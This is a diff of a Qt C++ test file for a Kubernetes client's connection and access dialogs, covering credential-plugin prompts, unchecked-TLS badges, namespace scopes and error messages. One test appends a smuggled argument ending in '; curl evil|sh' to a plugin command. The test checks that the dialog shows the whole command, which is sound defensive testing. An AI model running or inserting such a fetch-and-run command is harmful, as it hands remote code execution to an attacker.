@@ -1,6 +1,7 @@
 // SPDX-License-Identifier: Apache-2.0
 #include <QLineEdit>
 #include <QMenu>
+#include <QPlainTextEdit>
 #include <QProgressBar>
 #include <QPushButton>
 #include <QSignalSpy>
@@ -8,15 +9,17 @@
 #include <QtTest>
 #include <cstdio>
 
-#include "window_fixture.h"
 #include "ui/bridge/kubeconfig_watch.h"
+#include "ui/i18n/access_texts.h"
 #include "ui/i18n/texts.h"
-#include "ui/pages/preview/delete_dialog.h"
-#include "ui/pages/preview/placement_dialog.h"
-#include "ui/pages/shell/connection_dialog.h"
-#include "ui/pages/shell/namespaces_dialog.h"
-#include "ui/pages/shell/plugin_dialog.h"
-#include "ui/pages/shell/source_menu.h"
+#include "ui/pages/edit/delete_dialog.h"
+#include "ui/pages/edit/placement_dialog.h"
+#include "ui/pages/shell/bars/source_menu.h"
+#include "ui/pages/shell/dialogs/access_dialog.h"
+#include "ui/pages/shell/dialogs/connection_dialog.h"
+#include "ui/pages/shell/dialogs/namespaces_dialog.h"
+#include "ui/widgets/basic/badge.h"
+#include "window_fixture.h"
 
 using namespace cardinal;
 using namespace cardinal::ui;
@@ -55,53 +58,113 @@ class tst_connection : public QObject {
  private slots:
   void init() {
     m_fixture = std::make_unique<WindowFixture>();
-    m_window = &m_fixture->open();
-    QTRY_VERIFY(m_fixture->bridge().isFresh());
+    m_window = &m_fixture->opened();
+    QVERIFY(m_fixture->bridge().isFresh());
+    QCOMPARE(m_fixture->bridge().snapshot()->nodes.size(), std::size_t{4});
   }
   void cleanup() {
     m_preview.reset();
     m_fixture.reset();
   }
 
+  static AccessSummary mailed() {
+    AccessSummary summary;
+    summary.context = "prod";
+    summary.file = "/home/me/mailed.yaml";
+    summary.server = "https://10.0.0.1:6443";
+    summary.signIn = {SignIn::Plugin};
+    summary.plugin = PluginCall{"aws", "/usr/bin/aws", {"eks", "get-token <b>x</b>"}, {"LD_PRELOAD"}};
+    return summary;
+  }
+
   void aPluginIsAskedAboutWithEverythingThatWouldRun() {
-    PluginPrompt prompt;
-    prompt.context = "prod";
-    prompt.file = "/home/me/mailed.yaml";
-    prompt.command = "aws";
-    prompt.program = "/usr/bin/aws";
-    prompt.arguments = {"eks", "get-token <b>x</b>"};
-    prompt.variables = {"LD_PRELOAD"};
+    AccessSummary summary = mailed();
+    summary.plugin->arguments.push_back(std::string(2000, 'x') + "; curl evil|sh");
+    for (int i = 0; i < 60; ++i) summary.plugin->arguments.push_back("--flag-" + std::to_string(i));
     bool allowed = false;
-    m_window->askPlugin(prompt, [&allowed] { allowed = true; });
-    QTRY_VERIFY(m_window->findChild<PluginDialog*>() && m_window->findChild<PluginDialog*>()->isVisible());
-    PluginDialog& dialog = *m_window->findChild<PluginDialog*>();
+    m_window->askAccess(summary, [&allowed] { allowed = true; });
+    QTRY_VERIFY(m_window->findChild<AccessDialog*>() && m_window->findChild<AccessDialog*>()->isVisible());
+    AccessDialog& dialog = *m_window->findChild<AccessDialog*>();
     const QString texts = WindowFixture::visibleTexts(dialog);
-    QVERIFY(texts.contains(QStringLiteral("/usr/bin/aws")));
-    QVERIFY2(texts.contains(QStringLiteral("get-token <b>x</b>")), "plain text, whatever the file says");
+    QVERIFY2(texts.contains(QStringLiteral("https://10.0.0.1:6443")), "where the credential goes");
+    QVERIFY2(texts.contains(QStringLiteral("by the certificates of this machine")), "how the server is known");
     QVERIFY(texts.contains(QStringLiteral("LD_PRELOAD")));
-    QTRY_VERIFY2(button(dialog, QStringLiteral("Do not run it"))->hasFocus(), "the safe answer is the easy one");
+    const QString command = dialog.findChild<QPlainTextEdit*>()->toPlainText();
+    QVERIFY(command.contains(QStringLiteral("/usr/bin/aws")));
+    QVERIFY2(command.contains(QStringLiteral("get-token <b>x</b>")), "plain text, whatever the file says");
+    QVERIFY2(command.contains(QStringLiteral("x; curl evil|sh")), "no argument is cut");
+    QVERIFY2(command.contains(QStringLiteral("--flag-59")), "no argument is left out");
+    QVERIFY2(dialog.height() <= 900, "a long command line scrolls");
+    QTRY_VERIFY2(button(dialog, QStringLiteral("Do not connect"))->hasFocus(), "the safe answer is the easy one");
     QVERIFY(!allowed);
     QTest::mouseClick(button(dialog, QStringLiteral("Allow and connect")), Qt::LeftButton);
     QVERIFY(allowed);
   }
 
-  void allowedPluginsAreRemembered() {
-    QTemporaryDir folder;
-    const QString file = folder.filePath(QStringLiteral("cardinal.ini"));
-    {
-      WindowSettings settings(file);
-      QVERIFY(settings.allowedPlugins().empty());
-      settings.allowPlugin("aa");
-      settings.allowPlugin("bb");
+  void aServerThatIsNotCheckedIsAskedAboutInBothLanguages() {
+    AccessSummary summary = mailed();
+    summary.plugin.reset();
+    summary.signIn = {SignIn::TokenFile};
+    summary.tokenFile = "/home/me/.other/token";
+    summary.outside = {{"tokenFile", summary.tokenFile}};
+    summary.sendsTokenOfOutside = true;
+    summary.trust = ServerTrust::NotChecked;
+    summary.proxy = "http://proxy:3128";
+    bool allowed = false;
+    m_window->askAccess(summary, [&allowed] { allowed = true; });
+    QTRY_VERIFY(m_window->findChild<AccessDialog*>() && m_window->findChild<AccessDialog*>()->isVisible());
+    AccessDialog& dialog = *m_window->findChild<AccessDialog*>();
+    const QString texts = WindowFixture::visibleTexts(dialog);
+    for (const char* words : {"not checked (insecure-skip-tls-verify)", "tokenFile: /home/me/.other/token",
+                              "never remembered", "http://proxy:3128", "without checking the server?"}) {
+      QVERIFY2(texts.contains(QString::fromLatin1(words)), words);
     }
-    QCOMPARE(WindowSettings(file).allowedPlugins(), (std::vector<std::string>{"aa", "bb"}));
+    QTest::mouseClick(button(dialog, QStringLiteral("Do not connect")), Qt::LeftButton);
+    QVERIFY(!allowed);
+    m_fixture->language().setCode(QStringLiteral("zh_CN"));
+    for (const AccessFact& fact : accessFacts(summary)) {
+      const bool ascii = std::all_of(fact.key.begin(), fact.key.end(), [](QChar c) { return c.unicode() < 128; });
+      QVERIFY2(!ascii, qPrintable(fact.key));
+    }
+    m_fixture->language().setCode(QStringLiteral("en"));
+  }
+
+  void aServerThatIsNotCheckedHasARedBadgeAsLongAsItIsLookedAt() {
+    const auto badge = [this] {
+      for (Badge* one : m_window->findChildren<Badge*>()) {
+        if (one->isVisible() && one->text() == QStringLiteral("TLS not checked")) return one;
+      }
+      return static_cast<Badge*>(nullptr);
+    };
+    QVERIFY(!badge());
+    QVERIFY(!m_window->tabFacts().isInsecure);
+    m_window->setServerUnchecked(true);
+    QTRY_VERIFY(badge());
+    QVERIFY(m_window->tabFacts().isInsecure);
+    for (const ThemeKind kind : {ThemeKind::Light, ThemeKind::Contrast, ThemeKind::Dark}) {
+      m_fixture->theme().setKind(kind);
+      const QImage shown = badge()->grab().toImage();
+      const QColor critical = m_fixture->theme().tokens().critical;
+      QCOMPARE(shown.pixelColor(shown.width() / 2, 2).rgb(), critical.rgb());
+    }
+    const Error error = makeError(ErrorCode::NotConnected, "scripted");
+    m_fixture->script->connection(ConnectionPhase::Failed, &error);
+    QTRY_COMPARE(m_window->tabFacts().state, StateRole::Critical);
+    QVERIFY2(badge(), "a lost connection does not make it safe");
+    m_fixture->language().setCode(QStringLiteral("zh_CN"));
+    QTRY_VERIFY(!badge());
+    QVERIFY(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("未校验 TLS")));
+    m_fixture->language().setCode(QStringLiteral("en"));
+    m_window->setServerUnchecked(false);
+    QVERIFY(!badge());
   }
 
   void aPluginThatIsWaitedForIsNamedAndCanBeStopped() {
     ConnectionState state = live();
     state.waitingFor = "/usr/bin/aws";
     tell(state);
-    QTRY_VERIFY(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("Waiting for the credential plugin /usr/bin/aws")));
+    QTRY_VERIFY(WindowFixture::visibleTexts(*m_window).contains(
+        QStringLiteral("Waiting for the credential plugin /usr/bin/aws")));
     QVERIFY(button(*m_window, QStringLiteral("Stop waiting")));
     tell(live());
     QTRY_VERIFY(!button(*m_window, QStringLiteral("Stop waiting")));
@@ -112,7 +175,8 @@ class tst_connection : public QObject {
     state.scope = "team-a, team-b";
     state.refusedNamespaces = {"team-c"};
     tell(state);
-    QTRY_VERIFY(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("You can see the namespaces team-a, team-b only")));
+    QTRY_VERIFY(WindowFixture::visibleTexts(*m_window).contains(
+        QStringLiteral("You can see the namespaces team-a, team-b only")));
     QVERIFY(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("Not permitted: pods of team-c.")));
   }
 
@@ -138,7 +202,8 @@ class tst_connection : public QObject {
     QVERIFY2(!visibleBar(), "the server did not tell how many there are");
     state.nodesToCome = 1500;
     tell(state);
-    QTRY_VERIFY(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("500 of 2,000 nodes and 0 pods so far")));
+    QTRY_VERIFY(
+        WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("500 of 2,000 nodes and 0 pods so far")));
     QVERIFY(visibleBar());
     QCOMPARE(visibleBar()->value() * 4, visibleBar()->maximum());
     state.nodesLoaded = 2000;
@@ -146,7 +211,8 @@ class tst_connection : public QObject {
     state.podsLoaded = 100;
     state.podsToCome = 100;
     tell(state);
-    QTRY_VERIFY(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("2,000 nodes and 100 of 200 pods so far")));
+    QTRY_VERIFY(
+        WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("2,000 nodes and 100 of 200 pods so far")));
     QCOMPARE(visibleBar()->value() * 2, visibleBar()->maximum());
     tell(live());
     QTRY_VERIFY(!visibleBar());
@@ -155,7 +221,9 @@ class tst_connection : public QObject {
   void whatShouldBePutRightIsToldOnceAndStaysInTheDialog() {
     ConnectionState state = live();
     state.cautions = {{CautionCode::KubeconfigExposed, "/home/me/.kube/config", "0644"}};
-    const auto told = [this] { return WindowFixture::visibleTexts(*m_window).count(QStringLiteral("/home/me/.kube/config")); };
+    const auto told = [this] {
+      return WindowFixture::visibleTexts(*m_window).count(QStringLiteral("/home/me/.kube/config"));
+    };
     tell(state);
     QTRY_VERIFY(told() > 0);
     const auto first = told();
@@ -178,7 +246,8 @@ class tst_connection : public QObject {
     QPushButton* use = button(dialog, QStringLiteral("Look at these"));
     QVERIFY(use);
     dialog.field()->setText(QStringLiteral("team-a Team_B"));
-    QVERIFY2(WindowFixture::visibleTexts(dialog).contains(QStringLiteral("Team_B")), "the word that cannot be a name is named");
+    QVERIFY2(WindowFixture::visibleTexts(dialog).contains(QStringLiteral("Team_B")),
+             "the word that cannot be a name is named");
     QTest::mouseClick(use, Qt::LeftButton);
     QCOMPARE(chosen.count(), 0);
     dialog.field()->setText(QStringLiteral(" team-a team-b"));
@@ -259,7 +328,8 @@ class tst_connection : public QObject {
     QVERIFY(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("Read-only")));
     state.rights.note(Feature::CreateJobs, "team-b", Permission::Unknown);
     tell(state);
-    QTRY_VERIFY2(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("Can write")), "what is not known is offered");
+    QTRY_VERIFY2(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("Can write")),
+                 "what is not known is offered");
   }
 
   void theConnectionIsShownWithItsErrorAndFollows() {
@@ -269,7 +339,8 @@ class tst_connection : public QObject {
     ConnectionState state = live();
     state.phase = ConnectionPhase::Failed;
     state.hasError = true;
-    state.error = makeError(ErrorCode::PluginFailed, "aws", "users[u].exec (/k/config)", "it ended with exit code 7: log in");
+    state.error =
+        makeError(ErrorCode::PluginFailed, "aws", "users[u].exec (/k/config)", "it ended with exit code 7: log in");
     tell(state);
     QTRY_VERIFY(WindowFixture::visibleTexts(*dialog).contains(QStringLiteral("exit code 7: log in")));
     QVERIFY(button(*dialog, QStringLiteral("Test again")));
@@ -306,7 +377,8 @@ class tst_connection : public QObject {
   }
 
   void aBrokenCredentialIsNoReasonToConnectAnonymously() {
-    m_window->showOpenError(makeError(ErrorCode::CredentialInvalid, "users[u].token", "/k/config", "empty token"), [] {});
+    m_window->showOpenError(makeError(ErrorCode::CredentialInvalid, "users[u].token", "/k/config", "empty token"),
+                            [] {});
     QVERIFY(WindowFixture::visibleTexts(*m_window).contains(QStringLiteral("users[u].token")));
     QVERIFY(!button(*m_window, QStringLiteral("Connect anonymously")));
   }
@@ -358,7 +430,9 @@ class tst_connection : public QObject {
     };
     const auto lead = [&](const QString& version) {
       QVERIFY(QFile::link(root.filePath(version), root.filePath(QStringLiteral("mount/next"))));
-      QCOMPARE(std::rename(qPrintable(root.filePath(QStringLiteral("mount/next"))), qPrintable(root.filePath(QStringLiteral("mount/now")))), 0);
+      QCOMPARE(std::rename(qPrintable(root.filePath(QStringLiteral("mount/next"))),
+                           qPrintable(root.filePath(QStringLiteral("mount/now")))),
+               0);
     };
     for (const char* name : {"mount", "home", "one", "two"}) QVERIFY(root.mkdir(QString::fromLatin1(name)));
     write(QStringLiteral("one/config"), "one");
